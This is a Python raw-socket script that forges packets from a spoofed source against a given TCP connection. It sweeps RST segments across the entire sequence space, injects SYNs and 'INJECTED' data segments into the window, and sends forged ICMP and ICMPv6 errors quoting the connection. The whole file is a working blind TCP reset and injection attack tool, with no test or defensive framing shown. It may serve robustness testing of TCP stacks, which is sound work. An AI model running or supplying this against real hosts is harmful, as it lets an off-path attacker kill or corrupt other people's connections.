# storm.py SRC DST SPORT DPORT SEQ ACK: what blind attackers send to DST, as SRC, by IPv4 or IPv6: 2^16 RSTs over all sequence numbers
# (none of them SEQ), then SYNs and data in the window, and ICMP errors that quote the connection. Prints how many segments.
import socket, struct, sys
src, dst, sport, dport, seq, ack = *sys.argv[1:3], *map(int, sys.argv[3:7])
six = ":" in src
family = socket.AF_INET6 if six else socket.AF_INET
S, D = socket.inet_pton(family, src), socket.inet_pton(family, dst)
FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
# A raw socket of IPv6 with IPPROTO_RAW takes the header from us, as one of IPv4 does.
raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
to = (dst, 0)
def csum(b):
    b += b"\0" * (len(b) % 2)
    t = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while t >> 16: t = (t & 0xffff) + (t >> 16)
    return ~t & 0xffff
def ip(protocol, body, a=S, b=D):
    if six: return struct.pack("!IHBB", 6 << 28, len(body), protocol, 64) + a + b + body
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, protocol, 0, a, b) + body
def pseudo(protocol, length): return S + D + (struct.pack("!II", length, protocol) if six else struct.pack("!HH", protocol, length))
def tcp(flags, s, payload=b""):
    h = struct.pack("!HHIIBBHHH", sport, dport, s & 0xffffffff, ack & 0xffffffff if flags & ACK else 0, 5 << 4, flags, 65535, 0, 0)
    c = csum(pseudo(6, len(h) + len(payload)) + h + payload)
    return ip(6, h[:16] + struct.pack("!H", c) + h[18:] + payload)
sent = 0
def send(packet):
    global sent
    raw.sendto(packet, to)
    sent += 1
# One RST in each 64 KiB. Only the upper half of the number changes: the checksum is made from that of the first.
first = (seq + 1000) & 0xffff
packet, head = bytearray(tcp(RST, first)), 40 if six else 20
low = ~struct.unpack_from("!H", packet, head + 16)[0] & 0xffff
for high in range(1 << 16):
    total = low + high
    total = (total & 0xffff) + (total >> 16)
    struct.pack_into("!H", packet, head + 4, high)
    struct.pack_into("!H", packet, head + 16, ~total & 0xffff)
    send(packet)
for n in range(64): send(tcp(SYN, seq + 17 * n))
for n in range(64): send(tcp(PSH | ACK, seq + 9 * n, b"INJECTED\n"))
print(sent)
# Port, protocol, host unreachable, frag-needed, source quench; of IPv6: port, host, forbidden, too big, a wrong parameter.
errors = ((1, 4, 0), (1, 3, 0), (1, 1, 0), (2, 0, 1280), (4, 1, 6)) if six else ((3, 3, 0), (3, 2, 0), (3, 1, 0), (3, 4, 600), (4, 0, 0))
for kind, code, rest in errors:
    quoted = ip(6, struct.pack("!HHII", dport, sport, ack & 0xffffffff, seq & 0xffffffff) + b"\x50\x10\xff\xff\0\0\0\0", D, S)
    body = struct.pack("!BBHI", kind, code, 0, rest) + quoted
    c = csum((pseudo(58, len(body)) if six else b"") + body)
    raw.sendto(ip(58 if six else 1, body[:2] + struct.pack("!H", c) + body[4:]), to)
